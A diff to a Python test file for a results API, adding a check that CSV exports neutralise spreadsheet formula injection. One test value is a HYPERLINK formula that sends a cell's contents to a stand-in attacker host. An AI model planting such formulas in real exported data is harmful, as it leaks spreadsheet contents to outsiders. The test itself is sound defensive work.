@@ -1,5 +1,7 @@
 """Served releases and cached answers: a retired release stops being served at once."""
 
+import csv
+import io
 import os
 
 import pyarrow as pa
@@ -64,3 +66,26 @@ class TestServedRelease:
         stat = os.stat(path)
         os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
         assert [r["numerator"] for r in client.get(RESULTS, params=params).json()["items"]] == [4]
+
+
+class TestCsvInjection:
+    def test_a_unit_code_that_is_a_formula_is_text_in_csv_as_it_is_in_json(
+        self, client: TestClient, publish: ReleaseWriter, headers: dict[str, dict[str, str]]
+    ) -> None:
+        """unit_code is an extract's free text: in CSV a spreadsheet must not evaluate it."""
+        formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+        rows = [r | {"unit_code": formula} if r["level"] == "unit" else r for r in indicator_rows()]
+        publish(1, results=rows)
+        params = {"indicator": "plan", "level": "unit"}
+        csv_rows = list(
+            csv.DictReader(
+                io.StringIO(
+                    client.get(
+                        RESULTS, params=params | {"format": "csv"}, headers=headers["registry"]
+                    ).text
+                )
+            )
+        )
+        assert [r["unit_code"] for r in csv_rows] == ["'" + formula]
+        items = client.get(RESULTS, params=params, headers=headers["registry"]).json()["items"]
+        assert [r["unit_code"] for r in items] == [formula]
